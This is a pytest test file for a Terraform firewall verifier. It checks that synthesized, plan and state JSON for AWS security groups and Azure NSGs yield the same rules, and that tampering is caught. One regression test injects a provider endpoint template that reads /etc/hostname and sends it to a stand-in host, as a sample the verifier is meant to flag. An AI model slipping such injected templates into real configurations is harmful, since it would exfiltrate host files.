"""Reading Terraform JSON: cdk.tf.json, plan JSON and state JSON yield the same firewall.

The plan and state documents here are made by hand (tfshow.py) in Terraform's
format, for Azure, whose provider cannot run here, and for plans of an applied stack, which
need a cloud to refresh from; test_verify_terraform.py does the same with documents real
Terraform wrote for AWS, and test_review_plan_e2e.py with a real plan against moto.
"""

from __future__ import annotations

import copy
import json

import pytest

from conftest import EXAMPLES
from sxcloud.cli import main
from sxcloud.errors import InputError
from sxcloud.verify import verify
from sxcloud.verify.aws import SecurityGroup
from sxcloud.verify.azure import NetworkSecurityGroup
from sxcloud.verify.tfjson import CDKTF, PLAN, STATE, Ref, Unknown, parse, read
from tfshow import (applied, aws_block, aws_group_lists, aws_ids, azure_block, azure_ids,
                    in_modules, plan_document, refresh_planned_values, state_document)
from verifying import AWS_RULE_TYPES, NSG_RULE, intended, stacks

AZURE_STACKS = ["mail-azure-cluster-azure", "mail-simple-azure", "mailcrypt-example-azure"]


def _firewall(d, cloud, document):
    return (SecurityGroup if cloud == "aws" else NetworkSecurityGroup)(d, document)


def _rules(firewall):
    """The evaluated rules, without the addresses (which differ for inline blocks)."""
    if isinstance(firewall, SecurityGroup):
        return sorted((r.address, r.direction, r.protocol, r.ports, r.peer, str(r.network),
                       r.member) for r in firewall.rules)
    return sorted((r.name, r.priority, r.direction, r.allow, r.protocol, r.ports, r.source_ports,
                   repr(r.source), repr(r.destination))
                  for rules in firewall.rules.values() for r in rules)


def _stack(synthesized, name):
    d, cloud = next((d, c) for d, c in stacks(synthesized) if f"{d.name}-{c}" == name)
    return d, cloud, synthesized.stack(name)


def test_cdktf_references_become_refs(synthesized):
    document = parse(synthesized.stack("mail-aws-cluster-aws"), "cdk.tf.json")
    assert document.kind == CDKTF
    rule = next(r for r in document.resources if r.name == "R02_in_tcp22_sg_self")
    assert rule.values["referenced_security_group_id"] == Ref("aws_security_group.appliance", "id")
    assert "//" not in rule.values
    other = parse({"resource": {"x": {"y": {"a": "${var.z}", "b": ["pre-${a.b.c}"]}}}}, "f")
    assert isinstance(other.resources[0].values["a"], Unknown)
    assert isinstance(other.resources[0].values["b"][0], Unknown)


@pytest.mark.parametrize("name", AZURE_STACKS)
@pytest.mark.parametrize("form", ["plan-json-config", "plan-hcl-config", "state", "state-inline"])
def test_azure_plan_and_state_read_as_the_synthesized_json(name, form, synthesized):
    d, cloud, stack = _stack(synthesized, name)
    if form.startswith("plan"):
        data = plan_document(stack, hcl=form == "plan-hcl-config")
    else:
        data = state_document(stack, azure_ids(), inline_rules=form == "state-inline")
    document = parse(data, f"{form}.json")
    assert document.kind == (PLAN if form.startswith("plan") else STATE)
    result = verify(d, cloud, document)
    assert result.ok, [f.message for f in result.findings[:5]]
    assert _rules(_firewall(d, cloud, document)) == _rules(
        _firewall(d, cloud, parse(stack, "cdk.tf.json")))


def test_aws_hand_made_state_reads_as_the_synthesized_json(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
    document = parse(state_document(stack, aws_ids()), "state.json")
    assert verify(d, cloud, document).ok
    assert _rules(_firewall(d, cloud, document)) == _rules(
        _firewall(d, cloud, parse(stack, "cdk.tf.json")))


def test_a_deny_deleted_from_azure_state_is_caught(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-azure-cluster-azure")
    data = state_document(stack, azure_ids(), inline_rules=True)
    resources = data["values"]["root_module"]["resources"]
    resources[:] = [r for r in resources if r["address"] != f"{NSG_RULE}.deny-out-all"]
    nsg = next(r for r in resources if r["type"] == "azurerm_network_security_group")
    nsg["values"]["security_rule"] = [r for r in nsg["values"]["security_rule"]
                                      if r["name"] != "deny-out-all"]
    result = verify(d, cloud, parse(data, "state.json"))
    assert any("AllowInternetOutBound" in (f.decided_by or "") for f in result.findings)


def test_a_rule_removed_from_a_plan_is_caught(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-simple-azure")
    data = plan_document(stack)
    gone = f"{NSG_RULE}.allow-in-internal-mail-server-v4-tcp"
    data["resource_changes"] = [r for r in data["resource_changes"] if r["address"] != gone]
    data["planned_values"]["root_module"]["resources"] = [
        r for r in data["planned_values"]["root_module"]["resources"] if r["address"] != gone]
    result = verify(d, cloud, parse(data, "plan.json"))
    assert intended(result) == {"R03 inbound TCP 25 from internal_mail_server"}


def test_an_unresolvable_plan_value_is_opaque(synthesized):
    d, cloud, stack = _stack(synthesized, "mailcrypt-example-azure")
    data = plan_document(stack)
    address = f"{NSG_RULE}.deny-in-all"
    for change in data["resource_changes"]:  # unknown until apply, and no expression says why
        if change["address"] == address:
            change["change"]["after"].pop("network_security_group_name")
            change["change"]["after_unknown"]["network_security_group_name"] = True
    for resource in data["configuration"]["root_module"]["resources"]:
        if resource["address"] == address:
            del resource["expressions"]["network_security_group_name"]
    result = verify(d, cloud, parse(refresh_planned_values(data), "plan.json"))
    assert any(f.kind == "opaque" and "deny-in-all" in f.message for f in result.findings)


@pytest.mark.parametrize("text, expect, message", [
    ("{not json", None, "is not JSON"),
    ("[]", None, "not an object"),
    ('{"hello": 1}', None, "is neither a synthesized cdk.tf.json"),
    ('{"format_version": "1.0", "terraform_version": "1.15.5"}', PLAN, "not of a plan"),
    ('{"format_version": "1.2", "terraform_version": "1.15.5", "planned_values": {}}', STATE,
     "not of a state"),
])
def test_unreadable_documents_are_input_errors(text, expect, message, tmp_path):
    path = tmp_path / "doc.json"
    path.write_text(text)
    with pytest.raises(InputError) as error:
        read(path, expect)
    assert str(path) in str(error.value) and message in str(error.value)


def test_command_line_reads_plan_and_state_json(synthesized, tmp_path, capsys):
    example = next(p for p in EXAMPLES if p.name == "simple-both.yaml")
    stack = synthesized.stack("mail-simple-azure")
    plan, state = tmp_path / "plan.json", tmp_path / "state.json"
    plan.write_text(json.dumps(plan_document(stack)))
    state.write_text(json.dumps(state_document(stack, azure_ids(), inline_rules=True)))
    status = main(["verify", str(example), "--plan-json", str(plan), "--state-json", str(state),
                   "--json"])
    data = json.loads(capsys.readouterr().out)
    assert status == 0
    assert [(s["stack"], s["kind"]) for s in data["stacks"]] == [
        ("mail-simple-azure", "plan"), ("mail-simple-azure", "state")]
    assert data["skipped"] == ["mail-simple-aws"]


def test_command_line_refuses_a_document_of_no_given_stack(synthesized, tmp_path, capsys):
    example = next(p for p in EXAMPLES if p.name == "aws-single.yaml")
    state = tmp_path / "state.json"
    state.write_text(json.dumps(state_document(synthesized.stack("mail-simple-azure"), azure_ids())))
    assert main(["verify", str(example), "--state-json", str(state)]) == 2
    err = capsys.readouterr().err
    assert str(state) in err and "holds none of the stacks mail-aws-single-aws" in err


def test_a_state_file_passed_as_a_plan_is_refused(synthesized, tmp_path, capsys):
    example = next(p for p in EXAMPLES if p.name == "simple-both.yaml")
    state = tmp_path / "state.json"
    state.write_text(json.dumps(state_document(copy.deepcopy(
        synthesized.stack("mail-simple-azure")), azure_ids())))
    assert main(["verify", str(example), "--plan-json", str(state)]) == 2
    assert "is the JSON of a state" in capsys.readouterr().err


# --- the group's / NSG's rule lists in a plan of an applied stack ---------------------------

AWS_GROUP = "aws_security_group.appliance"
AZURE_NSG = "azurerm_network_security_group.appliance_nsg"
CONSOLE_AWS = {"cidr_blocks": ["0.0.0.0/0"], "description": "RDP while debugging",
               "from_port": 3389, "ipv6_cidr_blocks": [], "prefix_list_ids": [],
               "protocol": "tcp", "security_groups": [], "self": False, "to_port": 3389}
CONSOLE_AZURE = {"name": "console-rdp", "priority": 200, "direction": "Inbound", "access": "Allow",
                 "protocol": "Tcp", "source_port_range": "*", "destination_port_range": "3389",
                 "source_address_prefix": "Internet", "destination_address_prefix": "*"}


def _refreshed_plan(stack: dict, gone: str, lists) -> dict:
    """The plan of a stack applied earlier, refreshed (the group's or NSG's lists hold every
    rule in the cloud: `lists(changes)` sets them), that deletes the rule resource `gone`."""
    plan = applied(plan_document(stack), {})
    changes = {c["address"]: c for c in plan["resource_changes"]}
    lists(changes)
    changes[gone]["change"].update(actions=["delete"], after=None)
    plan["configuration"]["root_module"]["resources"] = [
        r for r in plan["configuration"]["root_module"]["resources"] if r["address"] != gone]
    return refresh_planned_values(plan)


def _aws_lists(extra: list[dict]):
    def fill(changes: dict) -> None:
        group = changes[AWS_GROUP]["change"]
        rules = [(c["type"], c["change"]["before"]) for c in changes.values()
                 if c["type"] in AWS_RULE_TYPES]
        lists = aws_group_lists(rules, group["before"]["id"])
        lists["ingress"] += extra
        for side in ("before", "after"):
            group[side].update(copy.deepcopy(lists))
    return fill


def _azure_lists(extra: list[dict]):
    def fill(changes: dict) -> None:
        nsg = changes[AZURE_NSG]["change"]
        blocks = [azure_block(c["change"]["before"]) for c in changes.values()
                  if c["type"] == NSG_RULE] + extra
        for side in ("before", "after"):
            nsg[side]["security_rule"] = copy.deepcopy(blocks)
    return fill


def _from_lists(firewall) -> list[str]:
    """The evaluated rules that came from the group's or NSG's list, not from a resource."""
    if isinstance(firewall, SecurityGroup):
        addresses = [r.address for r in firewall.rules]
    else:
        addresses = [r.address for rules in firewall.rules.values() for r in rules]
    return sorted({a for a in addresses if a.startswith((AWS_GROUP, AZURE_NSG))})


def test_an_aws_rule_the_plan_deletes_is_gone_though_the_group_still_lists_it(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-aws-single-aws")
    gone = "aws_vpc_security_group_ingress_rule.R16_in_tcp8443_cidr_10-10-99-0_24"
    data = _refreshed_plan(stack, gone, _aws_lists([CONSOLE_AWS]))
    group = next(r for r in data["planned_values"]["root_module"]["resources"]
                 if r["address"] == AWS_GROUP)
    console = f"{AWS_GROUP}.ingress[{len(group['values']['ingress']) - 1}]"
    document = parse(data, "plan.json")
    result = verify(d, cloud, document)
    assert intended(result) == {"R16 inbound TCP 8443 from admin_pc"}
    unexpected = [f for f in result.findings if f.kind == "unexpected"]
    assert unexpected and {(f.port, f.decided_by) for f in unexpected} == {(3389, console)}
    assert any(n.startswith(f"{console}: ") and "no Terraform resource manages" in n
               for n in result.notes)
    # The lists' copies of the rule resources are not evaluated a second time.
    assert _from_lists(SecurityGroup(d, document)) == [console]


def test_an_nsg_rule_the_plan_deletes_is_gone_though_the_nsg_still_lists_it(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-simple-azure")
    gone = f"{NSG_RULE}.allow-in-internal-mail-server-v4-tcp"
    data = _refreshed_plan(stack, gone, _azure_lists([CONSOLE_AZURE]))
    nsg = next(r for r in data["planned_values"]["root_module"]["resources"]
               if r["address"] == AZURE_NSG)
    console = f"{AZURE_NSG}.security_rule[{len(nsg['values']['security_rule']) - 1}]"
    document = parse(data, "plan.json")
    result = verify(d, cloud, document)
    assert intended(result) == {"R03 inbound TCP 25 from internal_mail_server"}
    unexpected = [f for f in result.findings if f.kind == "unexpected"]
    assert unexpected and {(f.port, f.decided_by) for f in unexpected} == {
        (3389, f"{console} (priority 200, Allow)")}
    assert any(n.startswith(f"{console}: ") for n in result.notes)
    assert _from_lists(NetworkSecurityGroup(d, document)) == [console]


def test_a_rule_moved_into_the_groups_configured_list_still_counts(synthesized):
    """Where the configuration sets the list, its blocks are rules, even one that matches a
    rule resource the plan deletes (moved from a resource into the group)."""
    d, cloud, stack = _stack(synthesized, "mail-aws-single-aws")
    gone = "aws_vpc_security_group_ingress_rule.R16_in_tcp8443_cidr_10-10-99-0_24"
    moved: list[dict] = []

    def move(changes: dict) -> None:
        group = changes[AWS_GROUP]["change"]
        moved.append(aws_block(changes[gone]["change"]["before"], group["before"]["id"]))
        group.update(actions=["update"])
        group["after"]["ingress"] = copy.deepcopy(moved)

    data = _refreshed_plan(stack, gone, move)
    config = next(r for r in data["configuration"]["root_module"]["resources"]
                  if r["address"] == AWS_GROUP)
    config["expressions"]["ingress"] = {"constant_value": moved}
    document = parse(data, "plan.json")
    result = verify(d, cloud, document)
    assert result.ok, [f.message for f in result.findings[:3]]
    assert _from_lists(SecurityGroup(d, document)) == [f"{AWS_GROUP}.ingress[0]"]
    assert not any("no Terraform resource manages" in n for n in result.notes)


# --- lists Terraform does not know as a whole -------------------------------------------------

def _hcl_plan(stack: dict, rule: str, attribute: str, references: list[str]) -> dict:
    """A plan of the stack as an HCL configuration writes it (references, no templates), one
    rule's list attribute referring to `references`."""
    data = plan_document(stack, hcl=True)
    config = next(r for r in data["configuration"]["root_module"]["resources"]
                  if r["address"] == rule)
    config["expressions"][attribute] = {"references": references}
    change = next(c for c in data["resource_changes"] if c["address"] == rule)
    change["change"]["after_unknown"][attribute] = True
    _planned(data, rule).pop(attribute, None)
    return data


def _planned(data: dict, address: str) -> dict:
    """A resource's planned values (plan_document shares them with its change's `after`)."""
    return next(r["values"] for r in data["planned_values"]["root_module"]["resources"]
                if r["address"] == address)


def test_a_whole_unknown_asg_list_is_the_asg_its_reference_names(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-simple-azure")
    rule = f"{NSG_RULE}.allow-in-internet-tcp"
    data = plan_document(stack, hcl=True)  # as Terraform writes it: `true` for the whole set
    change = next(c for c in data["resource_changes"] if c["address"] == rule)
    assert change["change"]["after_unknown"]["destination_application_security_group_ids"] is True
    assert "destination_application_security_group_ids" not in change["change"]["after"]
    result = verify(d, cloud, parse(data, "plan.json"))
    assert result.ok, [f.message for f in result.findings[:3]]


@pytest.mark.parametrize("attribute, side, what", [
    ("destination_application_security_group_ids", "destination",
     "whether the rule applies to the appliances"),
    ("source_address_prefixes", "source", "whom the rule admits"),
])
def test_a_truly_unknown_list_is_an_opaque_finding(attribute, side, what, synthesized):
    d, cloud, stack = _stack(synthesized, "mail-simple-azure")
    rule = f"{NSG_RULE}.allow-in-internet-tcp"
    data = _hcl_plan(stack, rule, attribute, [
        "azurerm_application_security_group.appliance_asg.id",
        "azurerm_application_security_group.appliance_asg", "var.more"])
    if side == "source":
        del _planned(data, rule)["source_address_prefix"]  # the list replaces it
    result = verify(d, cloud, parse(data, "plan.json"))
    opaque = [f.message for f in result.findings if f.kind == "opaque"]
    assert opaque == [f"{rule}: {side} " + ("application security group" if side == "destination"
                                           else "address")
                      + " (unknown: azurerm_application_security_group.appliance_asg.id, "
                        "azurerm_application_security_group.appliance_asg, var.more) is not "
                        f"known in this document, so verify cannot tell {what}"]


# --- resources inside modules -------------------------------------------------------------------

def _unaddressed(firewall):
    """The evaluated rules without their addresses (which name the module)."""
    return sorted(rule[1:] if isinstance(firewall, SecurityGroup) else rule
                  for rule in _rules(firewall))


@pytest.mark.parametrize("name", ["mail-aws-cluster-aws", "mail-simple-azure"])
@pytest.mark.parametrize("kind", ["plan", "state"])
@pytest.mark.parametrize("modules, keys, numeric", [
    (["fw"], None, False),
    (["a", "b"], None, False),
    (["a", "b"], ["x.y", 0], True),
], ids=["module", "nested", "nested-keyed-numeric"])
def test_module_plans_and_states_read_as_the_synthesized_json(name, kind, modules, keys, numeric,
                                                              synthesized):
    d, cloud, stack = _stack(synthesized, name)
    data = (plan_document(stack, hcl=True) if kind == "plan" else
            state_document(stack, aws_ids() if cloud == "aws" else azure_ids()))
    data = in_modules(data, modules, numeric=numeric, module_keys=keys)
    document = parse(data, f"{kind}.json")
    prefix = document.resources[0].address.rsplit(".", 2)[0]
    assert prefix.startswith("module.") and all(r.address.startswith(prefix)
                                               for r in document.resources)
    result = verify(d, cloud, document)
    assert result.ok, [f.message for f in result.findings[:5]]
    baseline = parse(stack, "cdk.tf.json")
    assert _unaddressed(_firewall(d, cloud, document)) == _unaddressed(
        _firewall(d, cloud, baseline))
    assert (result.peer_ranges, result.cells) == (verify(d, cloud, baseline).peer_ranges,
                                                       verify(d, cloud, baseline).cells)


def test_a_rule_removed_from_a_nested_module_plan_is_caught(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
    data = in_modules(plan_document(stack, hcl=True), ["a", "b"], module_keys=["k", None])
    gone = ('module.a["k"].module.b.aws_vpc_security_group_ingress_rule.'
            'this["R02_in_tcp22_sg_self"]')
    module = data["planned_values"]["root_module"]["child_modules"][0]["child_modules"][0]
    assert gone in [r["address"] for r in module["resources"]]
    module["resources"] = [r for r in module["resources"] if r["address"] != gone]
    result = verify(d, cloud, parse(data, "plan.json"))
    assert intended(result) == {"R02 inbound TCP 22 from appliance_peers"}


def test_a_module_reference_with_another_unknown_part_stays_unknown(synthesized):
    """`each.value` beside the group is the conditional's other branch; a variable is not
    known at plan time, so the value stays opaque."""
    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
    data = in_modules(plan_document(stack, hcl=True), ["fw"])
    rule = next(r for r in data["configuration"]["root_module"]["module_calls"]["fw"]["module"]
                ["resources"] if r["address"] == "aws_vpc_security_group_ingress_rule.this")
    rule["expressions"]["referenced_security_group_id"]["references"].append("var.peer")
    result = verify(d, cloud, parse(data, "plan.json"))
    (opaque,) = [f.message for f in result.findings if f.kind == "opaque"]
    assert "R02_in_tcp22_sg_self" in opaque and "var.peer" in opaque


# --- templates and escapes in cdk.tf.json -------------------------------------------------------

def test_escaped_literals_read_as_terraform_reads_them(synthesized):
    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
    stack = copy.deepcopy(stack)
    group = stack["resource"]["aws_security_group"]["appliance"]
    group["tags"]["note"] = "costs $${x} %%{y}"
    document = parse(stack, "cdk.tf.json")
    assert document.problems == []
    assert document.of_type("aws_security_group")[0].values["tags"]["note"] == "costs ${x} %{y}"
    assert verify(d, cloud, document).ok


@pytest.mark.parametrize("where, value", [
    ("provider.aws[0].endpoints[0].sts", 'http://h/${filebase64("/etc/hostname")}'),
    ("resource.aws_security_group.appliance.description", "x %{ for a in b }y%{ endfor }"),
    ("resource.aws_security_group.appliance.vpc_id", "${aws_vpc.elsewhere.id}"),
])
def test_a_template_sxcloud_did_not_write_is_a_finding(where, value, synthesized, tmp_path,
                                                       capsys):
    """Issue 9, item 3: verify passed injected endpoints and ARM ids with exit 0."""
    name = "mail-aws-cluster-aws"
    stack = copy.deepcopy(synthesized.stack(name))
    node = stack
    parts = where.replace("[0]", ".0").split(".")
    for part, after in zip(parts[:-1], parts[1:]):  # made where missing (endpoints)
        if part.isdigit():
            node = node[0] if node else (node.append({}) or node[0])
        else:
            node = node.setdefault(part, [] if after.isdigit() else {})
    node[parts[-1]] = value
    folder = tmp_path / "out" / "stacks" / name
    folder.mkdir(parents=True)
    (folder / "cdk.tf.json").write_text(json.dumps(stack))
    example = next(p for p in EXAMPLES if p.name == "aws-cluster-ipv6.yaml")
    assert main(["verify", str(example), "--synth-dir", str(tmp_path / "out")]) == 1
    out = capsys.readouterr().out
    assert f"invalid    {where}: this value is evaluated by Terraform: " in out
